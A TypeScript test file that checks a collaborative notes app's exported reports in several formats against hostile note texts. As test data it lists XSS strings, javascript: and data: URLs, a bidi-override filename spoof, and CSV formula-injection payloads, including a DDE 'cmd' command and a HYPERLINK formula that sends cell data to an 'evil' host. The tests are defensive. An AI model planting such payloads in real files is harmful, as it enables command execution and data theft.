import { parse } from "csv-parse/sync";
import { openRoomLink } from "../../client/sync/roomLink.ts";
import { api } from "../../shared/api.ts";
import type { NoteId, QuestionId, RoomId } from "../../shared/ids.ts";
import { readDocx } from "../support/exports/readDocx.ts";
import { readHtml } from "../support/exports/readHtml.ts";
import { readMarkdown } from "../support/exports/readMarkdown.ts";
import { readOdt } from "../support/exports/readOdt.ts";
import { readWorkbook } from "../support/exports/readWorkbook.ts";
import { until } from "../support/until.ts";
import { comeIn, joinRoom, makeSession } from "../support/visitor.ts";
import type { Attack, Attacks } from "./attack.ts";
import { openScene, type Scene } from "./scene.ts";

const readers = { docx: readDocx, html: readHtml, md: readMarkdown, odt: readOdt };

/** A session in which people write these notes; its report in each format, read back strictly, and `more` files as they are. */
async function reportsOf(scene: Scene, texts: readonly string[], more: readonly string[] = []) {
  const here = await openScene(scene.address, 1);
  const room = "r1" as RoomId;
  const guest = await joinRoom(scene.address, here.links, room, "Ann");
  const link = openRoomLink({ kind: "room", session: here.links.session, room, round: here.round }, guest.how);
  await until(link.stage.scene, (stage) => stage.open);
  for (const [at, text] of texts.entries())
    link.room.addNote({
      id: `n${at}` as NoteId,
      text,
      spot: { question: "q1" as QuestionId, place: { column: "all" } },
      madeAt: at,
    });
  await until(link.link.savings, ({ edits, saved }) => edits === texts.length && saved === edits);
  const { session } = here.links;
  const { notes } = await here.moderator.call(api.listNotes, { session, as: "moderator" });
  const download = async (format: string): Promise<Uint8Array> => {
    const answer = await here.moderator.fetch(`/api/sessions/${session}/report/${format}?as=moderator`);
    if (!answer.ok) throw new Error(`the ${format} answered ${answer.status}`);
    return new Uint8Array(await answer.arrayBuffer());
  };
  const files = await Promise.all(Object.entries(readers).map(async ([format, read]) => read(await download(format))));
  const plain = new Map(await Promise.all(more.map(async (format) => [format, await download(format)] as const)));
  link.close();
  here.close();
  return { files, plain, notes };
}

/** Every format opens, holds `words` literally, and has no link but to the web and to mail. */
function opens(
  texts: readonly string[],
  words: readonly string[] = texts,
  because?: string,
  more: readonly string[] = [],
): Attack {
  return {
    outcome: "opens in each format",
    ...(because !== undefined && { because }),
    async run(scene) {
      const { files } = await reportsOf(scene, texts, more);
      for (const { pieces, links } of files) {
        const all = pieces.map(({ text }) => text.replace(/\s+/gu, " ")).join("\n");
        for (const word of words)
          if (!all.includes(word.replace(/\s+/gu, " ").trim())) return `${JSON.stringify(word)} is missing`;
        if (links.some((href) => !/^(https?|mailto):/.test(href))) return `a link to ${links.join(" ")}`;
      }
      return "opens in each format";
    },
  };
}

const controls = Array.from({ length: 32 }, (_, at) => String.fromCharCode(at))
  .filter((char) => !"\t\n\r".includes(char))
  .join("a");
const keptAndDropped = "notes keep what was typed; what no file can hold is dropped where a file is made";

export const documents: Attacks = {
  F01: opens([`x${controls}\uFFFE\uFFFFy`], ["xa", "y"], keptAndDropped),
  F03: opens(["weg: \uD83D eind"], ["weg: \uFFFD eind"]),
  F04: opens(["koop \u202E gpj.exe"], ["koop gpj.exe"], "kept in the note, where it stands apart; dropped from files"),
  F05: opens([`Z${"\u0301".repeat(500)} einde`], ["einde"], "marks are not limited: what was typed is kept"),
  F06: opens(["een\u2028twee\u2029drie\r\nvier"], ["een", "vier"], keptAndDropped),
  F10: opens(
    [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      "[x](javascript:alert(1))",
      "vbscript:x",
      "data:text/html;base64,xx",
    ],
    ["vbscript:x"],
  ),
  J01: noFormulas(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]),
  J02: noFormulas(['=HYPERLINK("http://evil/?"&A1,"klik")', "=cmd|' /C calc'!A0", "＝1+1", ";=1", '"=1', "a\n=1"]),
  J04: opens([`x${controls}y`, "\uFFFE\uFFFF en tekst"], ["en tekst"]),
  J05: opens(["]]> klaar", "<!-- weg -->", "&amp;#x0;", "<w:p/>", "<script>alert(1)</script>"]),
  J09: opens([], [], undefined, ["zip"]),
  J12: opens(
    ["مرحبا", "👩‍👩‍👧 😀", "你好", "ⵜⵉⴼⵉⵏⴰⵖ"],
    ["مرحبا", "😀", "你好", "ⵜⵉⴼⵉⵏⴰⵖ"],
    "a PDF puts […] for letters that its fonts lack, and says so; all other files have them",
    ["pdf"],
  ),
};

/** As names of rooms in the CSV of links, and as notes in both spreadsheets. */
function noFormulas(texts: readonly string[]): Attack {
  const begins = /^[=+\-@\t\r＝]/;
  return {
    outcome: "no formula",
    async run(scene) {
      const links = await makeSession(scene.address, 1, { rooms: texts.map((name, at) => ({ name: `${name}${at}` })) });
      const organiser = await comeIn(scene.address, links, "organiser");
      const answer = await organiser.fetch(`/api/sessions/${links.session}/links.csv?as=organiser`);
      const { plain } = await reportsOf(scene, texts, ["csv", "xlsx"]);
      const tables = [await answer.text(), new TextDecoder().decode(plain.get("csv"))];
      const cells = tables.flatMap((table): string[] => parse(table, { bom: true }).flat());
      if (cells.some((cell) => begins.test(cell))) return "a formula in a CSV";
      const { formulas, cells: words } = readWorkbook(plain.get("xlsx") ?? new Uint8Array());
      if (!texts.every((text) => words.some((word) => word.trim() === text.trim()))) return "words are missing";
      return formulas === 0 ? "no formula" : "a formula";
    },
  };
}
